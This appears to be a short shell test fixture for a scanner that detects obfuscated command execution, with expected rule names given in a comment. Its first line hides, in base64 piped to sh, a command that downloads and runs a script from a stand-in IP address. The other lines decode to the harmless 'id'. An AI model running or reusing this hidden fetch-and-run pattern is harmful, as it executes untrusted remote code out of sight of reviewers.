#!/bin/sh
# expect: sh-decode-exec sh-hex-exec
echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | sh
eval "$(echo aWQK | base64 --decode)"
printf '\x69\x64\x0a\x0a' | bash
